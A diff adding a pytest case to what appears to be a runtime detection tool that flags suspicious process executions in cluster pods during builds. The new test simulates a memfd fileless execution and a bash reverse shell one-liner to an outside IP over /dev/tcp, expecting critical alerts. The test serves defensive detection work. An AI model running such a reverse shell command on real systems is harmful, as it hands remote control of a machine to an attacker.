@@ -2,8 +2,10 @@
 
 import pytest
 from detection.cluster import Cluster, Replica, alerts, analyse
+from peerwatch.columns import ProcessFlag
 
 from collector.analysis.meaning import VARIETY
+from collector.records import Severity
 
 DOER = "/opt/ci/workd"
 BASH = "/usr/bin/bash"
@@ -64,6 +66,17 @@ def test_what_no_build_needs_is_told_of_builds_as_well(cluster: Cluster, exe: st
     (alert,) = alerts(analyse(cluster, until=2000))
 
     assert [each.pod for each in alert.replicas] == [pods[1].name]
+
+
+def test_what_is_known_bad_is_told_of_builds_as_well(cluster: Cluster) -> None:
+    pods = cluster.pods(4)
+    builds(cluster, pods, VARIETY + 4)
+    cluster.exec(1700.5, pods[1], "memfd:x", parent=BASH, flags=(ProcessFlag.MEMFD,))
+    runs(cluster, 1800.5, pods[2], BASH, "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1")
+
+    told = alerts(analyse(cluster, until=2000))
+
+    assert {(each.severity, each.replicas[0].pod) for each in told} == {(Severity.CRITICAL, each.name) for each in pods[1:3]}
 
 
 def test_a_build_that_executes_a_new_file_each_time_is_told_once_at_most(cluster: Cluster) -> None:
